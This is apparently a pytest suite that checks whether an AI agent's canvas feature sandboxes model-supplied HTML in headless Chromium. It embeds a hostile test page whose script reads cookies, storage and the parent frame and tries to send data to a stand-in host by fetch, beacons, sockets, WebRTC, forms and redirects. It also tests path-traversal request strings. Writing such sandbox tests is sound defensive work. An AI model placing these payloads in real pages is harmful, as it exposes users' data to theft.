# ruff: noqa: E501 - the page is written as an attacker would
"""Canvases in a real headless Chromium: what is shown, its versions, and what it cannot reach."""

from __future__ import annotations

import http.server
import socket
import threading
from collections.abc import Iterator

import pytest

from agent.knowledge.canvas.documents import CanvasDocuments
from tests.support.chromium import Browser, version
from tests.support.model_process import ServerProcess
from tests.support.service import Head, Service, call

ATTACKS = r"""
<!doctype html><title>attack</title><body><p id=words>shown</p>
<img src="OUT/img"><link rel=stylesheet href="OUT/css"><link rel=prefetch href="OUT/prefetch">
<link rel=preload as=image href="OUT/preload"><link rel=preconnect href="OUT/preconnect">
<iframe src="OUT/frame"></iframe><object data="OUT/object"></object><video src="OUT/video"></video>
<style>@import "OUT/import"; body{background:url("OUT/background")} @font-face{font-family:x;src:url("OUT/font")}
p{font-family:x}</style><meta http-equiv=refresh content="9;url=OUT/refresh">
<form id=form action="OUT/form" method=post><input name=a value=b></form>
<form id=ours action="/api/pair" method=post target=_top><input name=a></form>
<script src="OUT/script"></script>
<script>
const told = {};
const attempt = async (name, act) => { try { told[name] = String(await act() ?? "undefined"); } catch (e) { told[name] = "refused"; } };
(async () => {
  await attempt("origin", () => origin);
  await attempt("cookie", () => document.cookie);
  await attempt("storage", () => localStorage.length);
  await attempt("parent", () => parent.document.title);
  await attempt("parent_call", () => parent.fetch("/api/me"));
  await attempt("fetch", () => fetch("/api/me", { credentials: "include" }));
  await attempt("fetch_out", () => fetch("OUT/fetch", { mode: "no-cors" }));
  await attempt("beacon", () => navigator.sendBeacon("OUT/beacon", "x") && "queued");
  await attempt("xhr", () => new Promise((yes, no) => { const x = new XMLHttpRequest(); x.onload = yes; x.onerror = no; x.open("GET", "OUT/xhr"); x.send(); }));
  await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket("OUT/socket".replace("http", "ws")); s.onopen = yes; s.onerror = no; }));
  await attempt("source", () => new Promise((yes, no) => { const s = new EventSource("OUT/source"); s.onopen = yes; s.onerror = no; }));
  await attempt("import", () => import("OUT/module"));
  await attempt("worker", () => new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = yes; w.onerror = no; }));
  await attempt("serviceworker", () => navigator.serviceWorker.register("/sw.js"));
  await attempt("popup", () => { if (open("OUT/popup")) return "opened"; throw 1; });
  await attempt("top", () => { top.location.href = "OUT/top"; return "asked"; });
  await attempt("form", () => { document.getElementById("form").submit(); document.getElementById("ours").submit(); return "asked"; });
  await attempt("anchor", () => { const a = document.createElement("a"); a.href = "OUT/anchor"; a.target = "_top"; a.click(); return "asked"; });
  await attempt("rtc", async () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:" + "OUT/x".split("/")[2] }] }); p.createDataChannel("x"); await p.setLocalDescription(); return "made"; });
  parent.postMessage({ told, secret: 1 }, "*");
  window.told = told;
  document.getElementById("words").textContent = "all tried";
  setTimeout(() => { location.href = "OUT/self?" + document.title; }, 100);
})();
</script>
"""
SCRIPT = r"""
from pathlib import Path
HOSTILE = Path({path!r}).read_text()
STEPS = {
    "draw": [
        call("canvas", name="plot", title="Sales", alt="A bar of 40", content="<svg viewBox='0 0 9 9'><rect width='4' height='4'/></svg>"),
        call("canvas", name="plot", action="edit", old="width='4'", new="width='8'"),
        say("Drawn."),
    ],
    "attack": [call("canvas", name="page", content=HOSTILE), say("Shown.")],
    "live": [call("canvas", name="page", content="<p id=live>first</p>"), call("canvas", name="page", action="edit", old="first", new="second"), say("Ok.")],
    "back": [call("canvas", name="page", action="undo"), say("Back.")],
}

def script(request):
    asked = [each for each in request.messages if each.get("role") == "user"]
    steps = STEPS[next(word for word in STEPS if word in str(asked[-1]["content"]))]
    done = 0
    for each in reversed(request.messages):
        if each.get("role") == "user":
            break
        done += each.get("role") == "assistant"
    return steps[min(done, len(steps) - 1)]
"""


FENCED = 152
"""The version of Chromium from which on a page opens no connection ahead of time, and none to a browser."""


class Outside(http.server.ThreadingHTTPServer):
    """Another site; whatever reaches it is counted."""

    daemon_threads = True

    def __init__(self) -> None:
        self.reached: list[str] = []
        reached = self.reached

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                reached.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *_: object) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.serve_forever, daemon=True).start()
        self.datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.datagrams.bind(("127.0.0.1", self.server_port))
        self.datagrams.setblocking(False)

    def heard(self) -> list[str]:
        """Requests, connections and datagrams so far."""
        try:
            return [*self.reached, str(self.datagrams.recv(2_000))]
        except BlockingIOError:
            return list(self.reached)

    def get_request(self):  # type: ignore[no-untyped-def]
        self.reached.append("connection")
        return super().get_request()


@pytest.fixture(scope="module")
def outside() -> Iterator[Outside]:
    if version() < FENCED:
        pytest.skip(f"Chromium knows Connection-Allowlist from {FENCED} on")
    site = Outside()
    yield site
    site.shutdown()
    site.server_close()
    site.datagrams.close()


@pytest.fixture(scope="module")
def hostile(outside: Outside) -> str:
    return ATTACKS.replace("OUT", f"http://127.0.0.1:{outside.server_port}")


@pytest.fixture(scope="module")
def head(tmp_path_factory: pytest.TempPathFactory, hostile: str) -> Iterator[Head]:
    folder = tmp_path_factory.mktemp("canvas")
    (folder / "hostile.html").write_text(hostile)
    script = SCRIPT.replace("{path!r}", repr(str(folder / "hostile.html")))
    with ServerProcess(script, folder) as model, Service(folder / "home", model.base_url) as service:
        yield service.device("talk", "program")


@pytest.fixture(scope="module")
def session(head: Head, tmp_path_factory: pytest.TempPathFactory) -> str:
    session = head.session(tmp_path_factory.mktemp("work"))
    head.say(session, "draw")
    head.until(session, "turn_ended")
    return session


@pytest.fixture(scope="module")
def browser(head: Head, session: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with Browser(tmp_path_factory.mktemp("chromium")) as running:
        running.open(f"{head.service.url}/#pair={head.service.code('talk')}")
        running.until("document.querySelector('#canvas iframe')")
        yield running


def last(head: Head, session: str, name: str) -> dict:
    return next(e for e in head.get(f"/api/sessions/{session}")[1]["canvases"] if e["name"] == name)


def test_a_drawing_is_shown_with_its_versions(head: Head, browser: Browser, session: str) -> None:
    told = last(head, session, "plot")
    assert [(each["version"], each["kind"]) for each in told["versions"]] == [(1, "svg"), (2, "svg")]
    browser.until("document.querySelector('#canvas-version').textContent === 'version 2 of 2'")
    newest = browser.run("document.querySelector('#canvas iframe').src")
    assert newest.endswith(told["versions"][-1]["sha256"])
    browser.run("document.querySelector('#canvas-back').click()")
    browser.until("document.querySelector('#canvas-version').textContent === 'version 1 of 2'")
    assert browser.run("document.querySelector('#canvas iframe').src") != newest
    assert browser.run("document.querySelector('#canvas iframe').title") == "A bar of 40"


def test_a_page_reaches_nothing(head: Head, browser: Browser, session: str, outside: Outside) -> None:
    browser.run(
        "window.heard = []; addEventListener('message', (e) => heard.push([e.origin, e.data.told])); 1"
    )
    before = browser.run("location.href")
    head.say(session, "attack")
    browser.until("heard.length")
    origin, tried = browser.run("heard[0]")
    assert origin == "null" and tried.pop("origin") == "null"
    # These say nothing of whether they were obeyed; the page and the other site show that below.
    silent = {"top", "form", "anchor", "beacon", "rtc"}
    assert {name: said for name, said in tried.items() if said != "refused"}.keys() <= silent, tried
    assert len(tried) == 18
    # The frame tried to lead itself away; what is there instead says that it was stopped.
    head.say(session, "live")
    head.until(session, "turn_ended", after=head.events(session)[-1]["seq"] - 1)
    browser.until("document.querySelector('#canvas-version').textContent === 'version 3 of 3'")
    assert outside.heard() == []
    assert browser.run("location.href") == before
    assert browser.run("document.querySelector('#canvas-name').selectedOptions[0].value") == "page"


def test_a_document_opened_by_itself_is_fenced_as_well(
    head: Head, browser: Browser, session: str, outside: Outside
) -> None:
    document = last(head, session, "page")["versions"][0]["sha256"]
    address = browser.run("location.href")
    browser.open(f"{head.service.url}/api/sessions/{session}/canvas/{document}")
    # Its own attempt to lead elsewhere ends it; nothing was sent there.
    browser.until("location.protocol === 'chrome-error:'")
    assert outside.heard() == []
    # A drawing is a picture; models often leave out the name of its space.
    drawing = last(head, session, "plot")["versions"][-1]["sha256"]
    browser.open(f"{head.service.url}/api/sessions/{session}/canvas/{drawing}")
    browser.until("document.images[0]?.naturalWidth > 0")
    browser.open(address)
    browser.until("document.querySelector('#canvas iframe')")


def test_a_document_goes_back_with_undo(head: Head, browser: Browser, session: str) -> None:
    after = head.events(session)[-1]["seq"]
    head.say(session, "back")
    told = head.until(session, "turn_ended", after)
    assert [len(each["versions"]) for each in told if each["type"] == "canvas"] == [2]
    browser.until("document.querySelector('#canvas-version').textContent === 'version 2 of 2'")


def test_a_file_of_it_runs_nothing(head: Head, browser: Browser, session: str, outside: Outside) -> None:
    documents = CanvasDocuments(head.service.home / "canvas")
    path = documents.exported(session, last(head, session, "page")["versions"][0]["sha256"], "A <title>")
    assert path is not None and path.stat().st_mode & 0o077 == 0
    assert "script" not in path.read_text().replace("&quot;", "").partition("srcdoc")[2]
    browser.open(path.as_uri())
    browser.until("document.title === 'A <title>' && document.querySelector('iframe')")
    assert outside.heard() == []


@pytest.mark.thorough
@pytest.mark.parametrize(
    "path", ["0" * 64, "..%2f..%2fserve%2fdevices.json", "%2e%2e", "x", "0" * 63 + "G", "%00" * 64]
)
def test_only_documents_of_the_session_are_given_out(head: Head, session: str, path: str) -> None:
    assert head.get(f"/api/sessions/{session}/canvas/{path}")[0] in (400, 404)
    known = last(head, session, "plot")["versions"][0]["sha256"]
    assert head.get(f"/api/sessions/other/canvas/{known}")[0] == 404
    assert call(f"{head.service.url}/api/sessions/{session}/canvas/{known}")[0] == 401
